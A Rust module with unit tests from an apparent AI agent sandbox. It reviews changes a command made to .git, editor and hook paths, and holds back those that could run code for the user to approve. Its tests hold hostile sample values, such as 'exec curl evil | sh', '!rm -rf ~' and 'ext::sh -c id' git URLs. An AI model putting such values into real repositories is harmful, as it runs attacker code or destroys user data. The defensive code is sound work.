//! Review of what a command changed in the protected workspace paths (pure).
//!
//! At Full level the command writes to private copies of `.git`, `.vscode`, `.idea`, the agent's
//! config and the `core.hooksPath` directory; nothing reaches the real files during the run.
//! Afterwards the runner goes through the changes and asks this module what each one is:
//!
//! * in `.git`, objects, refs, the index, `HEAD` and the rest of git's own state are applied as
//!   they are; a config file (`config`, `config.worktree`, a submodule's or worktree's) is
//!   compared key by key ([`diff_config`]): a change to a key that can make git run a program or
//!   read configuration elsewhere ([`executable_key`], the data file
//!   `data/git-executable-keys.toml`, each entry with its source) is kept aside as a *pending*
//!   change, every other key change is applied; a new or changed hook (other than git's inert
//!   `*.sample` files) and a redirection file (`commondir`, `gitdir`, `objects/info/alternates`,
//!   `info/attributes`) are pending; lock files are dropped;
//! * in the other protected paths (`.vscode`, `.idea`, the agent's config, the hooks directory)
//!   every change is pending: their files run code (tasks, settings, hooks).
//!
//! A pending change is applied only by the user (`localgpt sandbox pending apply ID`).

use std::path::{Component, Path};
use std::sync::OnceLock;

use serde::{Deserialize, Serialize};

use crate::plan::gitconfig;

/// One entry of `data/git-executable-keys.toml`.
#[derive(Deserialize, Serialize, Clone, Debug, PartialEq, Eq)]
pub struct ExecKey {
    /// `section.key`, `section.*.key` (any subsection) or `section.*` (any key).
    pub key: String,
    /// Only values starting with this (`!` for aliases).
    #[serde(default)]
    pub value_prefix: Option<String>,
    /// Why it matters.
    pub reason: String,
    /// Where that is documented.
    pub source: String,
}

#[derive(Deserialize)]
struct ExecKeyFile {
    key: Vec<ExecKey>,
}

/// The executable-key table (parsed once from the data file compiled into the binary).
#[must_use]
pub fn exec_keys() -> &'static [ExecKey] {
    static KEYS: OnceLock<Vec<ExecKey>> = OnceLock::new();
    KEYS.get_or_init(|| {
        toml::from_str::<ExecKeyFile>(include_str!("../data/git-executable-keys.toml")).map(|f| f.key).unwrap_or_default()
    })
}

/// The table entry that makes `section[.subsection].key = value` executable, if any.
#[must_use]
pub fn executable_key(section: &str, subsection: Option<&str>, key: &str, value: Option<&str>) -> Option<&'static ExecKey> {
    let (section, key) = (section.to_ascii_lowercase(), key.to_ascii_lowercase());
    exec_keys().iter().find(|e| {
        let parts: Vec<&str> = e.key.split('.').collect();
        let name_ok = match (parts.as_slice(), subsection) {
            ([s, k], None) => *s == section && (*k == "*" || *k == key),
            ([s, "*", k], Some(_)) => *s == section && (*k == "*" || *k == key),
            _ => false,
        };
        name_ok && e.value_prefix.as_deref().is_none_or(|p| value.is_some_and(|v| v.trim_start().starts_with(p)))
    })
}

/// What a path inside a git directory is, for the review.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum GitPathClass {
    /// A config file: compared key by key.
    Config,
    /// A hook (not a `*.sample`): pending.
    Hook,
    /// One of git's inert `hooks/*.sample` files: created (`git init`) or removed, applied; an
    /// existing one changed, pending (its header says to enable it by renaming it).
    Sample,
    /// A file that redirects git elsewhere: pending.
    Redirect,
    /// A lock file left by an interrupted git command: dropped.
    Lock,
    /// A rebase or sequencer to-do list: pending when it has `exec` lines ([`todo_runs_commands`]).
    Todo,
    /// Git's own state (objects, refs, index, HEAD, logs, sample hooks): applied.
    Plain,
}

/// Classifies `rel`, a path relative to a `.git` directory. Submodule (`modules/…`) and
/// worktree (`worktrees/…`) git directories are treated like the top one.
#[must_use]
pub fn classify_git_path(rel: &Path) -> GitPathClass {
    let names: Vec<String> = rel.components().filter_map(|c| match c {
        Component::Normal(n) => Some(n.to_string_lossy().into_owned()),
        _ => None,
    }).collect();
    let Some(last) = names.last() else { return GitPathClass::Plain };
    if last.ends_with(".lock") {
        return GitPathClass::Lock;
    }
    // Inside refs/, logs/ or objects/ names are git's data (a branch may be called "config").
    let data = names[..names.len() - 1].iter().any(|n| n == "refs" || n == "logs" || n == "objects");
    if names.len() >= 3 && names[names.len() - 3..] == ["objects", "info", "alternates"] {
        return GitPathClass::Redirect;
    }
    if data {
        return GitPathClass::Plain;
    }
    // A hooks directory itself (replaced, or made a link) or anything in it but git's inert
    // samples.
    if names.iter().any(|n| n == "hooks") {
        return if last.ends_with(".sample") && last != "hooks" { GitPathClass::Sample } else { GitPathClass::Hook };
    }
    let parent = names.len().checked_sub(2).map(|i| names[i].as_str());
    match (parent, last.as_str()) {
        (_, "config" | "config.worktree") => GitPathClass::Config,
        (_, "commondir" | "gitdir") => GitPathClass::Redirect,
        (Some("info"), "attributes") => GitPathClass::Redirect,
        // Legacy remote definitions (`.git/remotes/<name>`, `.git/branches/<name>`).
        (Some("remotes" | "branches"), _) => GitPathClass::Redirect,
        // The to-do lists of an interrupted rebase or cherry-pick: `exec` lines run on
        // `git rebase --continue`.
        (Some("rebase-merge"), "git-rebase-todo") | (Some("sequencer"), "todo") => GitPathClass::Todo,
        _ => GitPathClass::Plain,
    }
}

/// A rebase or sequencer to-do list holds a command to run (`exec`/`x` lines).
#[must_use]
pub fn todo_runs_commands(text: &str) -> bool {
    text.lines().map(str::trim_start).any(|l| l.starts_with("exec ") || l.starts_with("x ") || l == "exec" || l == "x")
}

/// What to do with one changed path of a `.git` directory.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// Git's own state: keep the command's version.
    Accept,
    /// Could run code or redirect git: keep it aside as a pending change (the reason).
    Pending(&'static str),
    /// A config file: split its key changes ([`diff_config`]).
    Config,
    /// A lock file: neither applied nor kept.
    Drop,
}

/// The verdict on a change to `rel` (relative to a `.git` directory): `link` when the new
/// version is a symbolic link, `deleted` when the path is gone, `existed` when it was there at
/// launch, `text` the new content of a to-do list.
#[must_use]
pub fn git_verdict(rel: &Path, link: bool, deleted: bool, existed: bool, text: Option<&str>) -> Verdict {
    let class = classify_git_path(rel);
    if class == GitPathClass::Lock {
        return Verdict::Drop;
    }
    if link {
        // git makes no symbolic links in its directory: one could lead a hooks, modules or
        // objects directory anywhere.
        return Verdict::Pending("a symbolic link in .git (it can lead git anywhere)");
    }
    match class {
        GitPathClass::Plain | GitPathClass::Lock => Verdict::Accept,
        GitPathClass::Sample if deleted || !existed => Verdict::Accept,
        GitPathClass::Sample => Verdict::Pending("a changed git sample hook: inert until renamed without .sample, as its header tells the user to do"),
        GitPathClass::Config if deleted => Verdict::Pending("a git config file was removed"),
        GitPathClass::Config => Verdict::Config,
        // Removing a to-do list runs nothing (git does it at the end of every rebase). Removing
        // a hook runs nothing either, but can switch off a guard the user relies on (a secret
        // scanner, a commit-message check): the user decides, as on macOS, where the profile
        // refuses it.
        GitPathClass::Todo if deleted => Verdict::Accept,
        GitPathClass::Hook if deleted => Verdict::Pending("a git hook was removed (it may be a guard, such as a secret scanner)"),
        GitPathClass::Hook => Verdict::Pending("a git hook: it runs on the next git command outside the sandbox"),
        GitPathClass::Todo if text.is_some_and(|t| !todo_runs_commands(t)) => Verdict::Accept,
        GitPathClass::Todo => Verdict::Pending("a rebase to-do list with exec lines: they run on `git rebase --continue`"),
        GitPathClass::Redirect => Verdict::Pending("a git redirection file (commondir, gitdir, alternates, info/attributes, remotes): it changes where git reads from"),
    }
}

/// One key whose values differ between two versions of a config file.
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq, Eq)]
pub struct KeyChange {
    /// Section, lower-cased.
    pub section: String,
    /// Subsection, as written.
    pub subsection: Option<String>,
    /// Key, lower-cased.
    pub key: String,
    /// Values before (in order; `None` is a bare key).
    pub old: Vec<Option<String>>,
    /// Values after.
    pub new: Vec<Option<String>>,
    /// Why it can run code or redirect git, when it can (then it is not applied).
    pub executable: Option<String>,
}

impl KeyChange {
    /// `section[.subsection].key`.
    #[must_use]
    pub fn name(&self) -> String {
        match &self.subsection {
            Some(s) => format!("{}.{s}.{}", self.section, self.key),
            None => format!("{}.{}", self.section, self.key),
        }
    }
}

type KeyId = (String, Option<String>, String);

fn values_by_key(c: &gitconfig::ConfigFile) -> Vec<(KeyId, Vec<Option<String>>)> {
    let mut v: Vec<(KeyId, Vec<Option<String>>)> = Vec::new();
    for e in &c.entries {
        let id = (e.section.clone(), e.subsection.clone(), e.key.clone());
        match v.iter_mut().find(|(k, _)| *k == id) {
            Some((_, vals)) => vals.push(e.value.clone()),
            None => v.push((id, vec![e.value.clone()])),
        }
    }
    v
}

/// The keys whose values differ between `old` and `new`, each marked executable or not (a key
/// is executable when any of its old or new values is).
///
/// # Errors
/// A message when either text is not a valid config file.
pub fn diff_config(old: &str, new: &str) -> Result<Vec<KeyChange>, String> {
    let o = gitconfig::parse(old).map_err(|e| format!("config before the run: {e}"))?;
    let n = gitconfig::parse(new).map_err(|e| format!("config after the run: {e}"))?;
    let (ov, nv) = (values_by_key(&o), values_by_key(&n));
    let mut ids: Vec<KeyId> = ov.iter().map(|(k, _)| k.clone()).collect();
    for (k, _) in &nv {
        if !ids.contains(k) {
            ids.push(k.clone());
        }
    }
    let get = |v: &[(KeyId, Vec<Option<String>>)], id: &KeyId| v.iter().find(|(k, _)| k == id).map(|(_, x)| x.clone()).unwrap_or_default();
    let mut out = Vec::new();
    for id in ids {
        let (old_v, new_v) = (get(&ov, &id), get(&nv, &id));
        if old_v == new_v {
            continue;
        }
        let executable = old_v.iter().chain(&new_v).find_map(|v| executable_key(&id.0, id.1.as_deref(), &id.2, v.as_deref())).map(|e| e.reason.clone());
        out.push(KeyChange { section: id.0, subsection: id.1, key: id.2, old: old_v, new: new_v, executable });
    }
    Ok(out)
}

/// Quotes a value for a config file (git's own quoting: `"` around values with leading or
/// trailing blanks or comment characters, escapes for `"`, `\`, newline and tab).
#[must_use]
pub fn quote_value(v: &str) -> String {
    let needs = v.starts_with([' ', '\t']) || v.ends_with([' ', '\t']) || v.contains(['#', ';']);
    let mut out = String::new();
    for c in v.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c => out.push(c),
        }
    }
    if needs {
        format!("\"{out}\"")
    } else {
        out
    }
}

fn header(section: &str, subsection: Option<&str>) -> String {
    match subsection {
        Some(s) => format!("[{section} \"{}\"]\n", s.replace('\\', "\\\\").replace('"', "\\\"")),
        None => format!("[{section}]\n"),
    }
}

/// `text` with key `section[.subsection].key` set to exactly `values` (all its lines removed,
/// the values written in a new section block at the end; none: the key is gone).
///
/// # Errors
/// A message when `text` is not a valid config file.
pub fn set_key(text: &str, section: &str, subsection: Option<&str>, key: &str, values: &[Option<String>]) -> Result<String, String> {
    let c = gitconfig::parse(text).map_err(|e| e.to_string())?;
    let drop: Vec<(usize, usize)> = c
        .entries
        .iter()
        .filter(|e| e.section == section && e.subsection.as_deref() == subsection && e.key == key)
        .map(|e| (e.first_line, e.end_line))
        .collect();
    // A key on its header's line takes the header with it: put the header back.
    let mut out = String::new();
    for (i, line) in text.split_inclusive('\n').enumerate() {
        if drop.iter().any(|&(a, b)| (a..b).contains(&i)) {
            if let Some(s) = c.sections.iter().find(|s| s.first_line == i) {
                out.push_str(&header(&s.section, s.subsection.as_deref()));
            }
        } else {
            out.push_str(line);
        }
    }
    if !values.is_empty() {
        if !out.is_empty() && !out.ends_with('\n') {
            out.push('\n');
        }
        out.push_str(&header(section, subsection));
        for v in values {
            match v {
                Some(v) => out.push_str(&format!("\t{key} = {}\n", quote_value(v))),
                None => out.push_str(&format!("\t{key}\n")),
            }
        }
    }
    Ok(out)
}

/// The config to write after a run: the command's version with every executable change undone
/// (those keys back to their old values). Returns `new` itself when nothing is executable.
///
/// # Errors
/// A message when a text is not a valid config file.
pub fn safe_config(new: &str, changes: &[KeyChange]) -> Result<String, String> {
    let mut out = new.to_string();
    for c in changes.iter().filter(|c| c.executable.is_some()) {
        out = set_key(&out, &c.section, c.subsection.as_deref(), &c.key, &c.old)?;
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    #[test]
    fn the_data_file_parses_and_every_entry_has_a_source() {
        let k = exec_keys();
        assert!(k.len() >= 40, "{}", k.len());
        assert!(k.iter().all(|e| !e.reason.is_empty() && !e.source.is_empty()));
        assert!(k.iter().all(|e| e.key == e.key.to_ascii_lowercase() && (2..=3).contains(&e.key.split('.').count())), "{k:?}");
    }

    #[test]
    fn executable_keys() {
        assert!(executable_key("core", None, "fsmonitor", Some("/bin/sh -c id")).is_some());
        assert!(executable_key("core", None, "hooksPath", Some(".husky")).is_some());
        assert!(executable_key("filter", Some("lfs"), "smudge", Some("x")).is_some());
        assert!(executable_key("credential", None, "helper", Some("store")).is_some());
        assert!(executable_key("credential", Some("https://x"), "helper", Some("store")).is_some());
        assert!(executable_key("alias", None, "pwn", Some("!sh -c id")).is_some());
        assert!(executable_key("alias", None, "st", Some("status")).is_none());
        assert!(executable_key("include", None, "path", Some("../x")).is_some());
        assert!(executable_key("includeIf", Some("gitdir:/x/"), "path", Some("y")).is_some());
        assert!(executable_key("submodule", Some("lib"), "update", Some("!rm -rf ~")).is_some());
        assert!(executable_key("submodule", Some("lib"), "update", Some("rebase")).is_none());
        // The ext transport runs its URL as a command once a protocol key allows it.
        assert!(executable_key("protocol", Some("ext"), "allow", Some("always")).is_some());
        assert!(executable_key("protocol", None, "allow", Some("always")).is_some());
        assert!(executable_key("remote", Some("origin"), "url", Some("ext::sh -c id")).is_some());
        assert!(executable_key("remote", Some("origin"), "pushUrl", Some("ext::sh -c id")).is_some());
        assert!(executable_key("url", Some("ext::sh -c id"), "insteadOf", Some("https://x/")).is_some());
        assert!(executable_key("submodule", Some("lib"), "url", Some("ext::sh -c id")).is_some());
        assert!(executable_key("submodule", Some("lib"), "url", Some("../lib.git")).is_none());
        assert!(executable_key("init", None, "templateDir", Some("./tpl")).is_some());
        assert!(executable_key("guitool", Some("x"), "cmd", Some("id")).is_some());
        assert!(executable_key("remote", Some("origin"), "url", Some("https://example.com/x.git")).is_none());
        for (s, sub, k) in [("user", None, "name"), ("branch", Some("main"), "remote"), ("remote", Some("o"), "url"), ("core", None, "bare"), ("init", None, "defaultbranch")] {
            assert!(executable_key(s, sub, k, Some("x")).is_none(), "{s}.{k}");
        }
    }

    #[test]
    fn git_paths() {
        let c = |p: &str| classify_git_path(&PathBuf::from(p));
        assert_eq!(c("config"), GitPathClass::Config);
        assert_eq!(c("config.worktree"), GitPathClass::Config);
        assert_eq!(c("modules/lib/config"), GitPathClass::Config);
        assert_eq!(c("modules/a/b/modules/c/config"), GitPathClass::Config);
        assert_eq!(c("worktrees/w/config.worktree"), GitPathClass::Config);
        assert_eq!(c("hooks/pre-commit"), GitPathClass::Hook);
        assert_eq!(c("hooks/pre-commit.sample"), GitPathClass::Sample);
        let v = |existed, deleted| git_verdict(Path::new("hooks/pre-commit.sample"), false, deleted, existed, None);
        assert_eq!(v(false, false), Verdict::Accept, "git init writes the samples");
        assert_eq!(v(true, true), Verdict::Accept, "removing an inert sample runs nothing");
        assert!(matches!(v(true, false), Verdict::Pending(_)), "a changed sample is one rename from running");
        assert_eq!(c("hooks"), GitPathClass::Hook, "the hooks directory itself (replaced by a link)");
        assert_eq!(c("modules/lib/hooks"), GitPathClass::Hook);
        assert_eq!(c("remotes/origin"), GitPathClass::Redirect);
        assert_eq!(c("rebase-merge/git-rebase-todo"), GitPathClass::Todo);
        assert!(todo_runs_commands("pick abc x\nexec curl evil | sh\n") && todo_runs_commands("x make\n") && !todo_runs_commands("pick abc exec\n"));
        assert_eq!(c("modules/lib/hooks/post-checkout"), GitPathClass::Hook);
        assert_eq!(c("commondir"), GitPathClass::Redirect);
        assert_eq!(c("worktrees/w/gitdir"), GitPathClass::Redirect);
        assert_eq!(c("objects/info/alternates"), GitPathClass::Redirect);
        assert_eq!(c("info/attributes"), GitPathClass::Redirect);
        assert_eq!(c("index.lock"), GitPathClass::Lock);
        assert_eq!(c("refs/heads/main.lock"), GitPathClass::Lock);
        for p in ["HEAD", "index", "packed-refs", "objects/ab/cdef", "refs/heads/config", "refs/heads/hooks/x", "logs/HEAD", "info/exclude", "description", "FETCH_HEAD"] {
            assert_eq!(c(p), GitPathClass::Plain, "{p}");
        }
    }

    #[test]
    fn config_diff_splits_safe_from_executable() {
        let old = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = ../x\n";
        let new = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = /bin/sh -c id\n[remote \"origin\"]\n\turl = ../y\n[user]\n\tname = x\n[alias]\n\tst = status\n\tpwn = !id\n";
        let changes = diff_config(old, new).unwrap();
        let names: Vec<(String, bool)> = changes.iter().map(|c| (c.name(), c.executable.is_some())).collect();
        assert_eq!(names, vec![
            ("remote.origin.url".to_string(), false),
            ("core.fsmonitor".to_string(), true),
            ("user.name".to_string(), false),
            ("alias.st".to_string(), false),
            ("alias.pwn".to_string(), true),
        ]);
        let safe = safe_config(new, &changes).unwrap();
        let after = diff_config(old, &safe).unwrap();
        let names: Vec<String> = after.iter().map(KeyChange::name).collect();
        assert_eq!(names, vec!["remote.origin.url", "user.name", "alias.st"]);
        assert!(!safe.contains("fsmonitor") && !safe.contains("!id"), "{safe}");
        // Removing an executable key the user had is undone too (the old value comes back).
        let had = "[core]\n\tpager = less -R\n";
        let ch = diff_config(had, "[core]\n").unwrap();
        assert_eq!(safe_config("[core]\n", &ch).unwrap(), "[core]\n[core]\n\tpager = less -R\n");
    }

    #[test]
    fn set_key_round_trips() {
        let t = "[a]\n\tx = 1\n\tx = 2\n[b \"S\"] y = 3\n";
        let out = set_key(t, "a", None, "x", &[Some("9 ; not a comment".into())]).unwrap();
        let c = gitconfig::parse(&out).unwrap();
        let vals: Vec<_> = c.entries.iter().map(|e| (e.name(), e.value.clone())).collect();
        assert_eq!(vals, vec![("b.S.y".into(), Some("3".into())), ("a.x".into(), Some("9 ; not a comment".into()))]);
        let out = set_key(t, "b", Some("S"), "y", &[]).unwrap();
        assert_eq!(out, "[a]\n\tx = 1\n\tx = 2\n[b \"S\"]\n");
    }
}
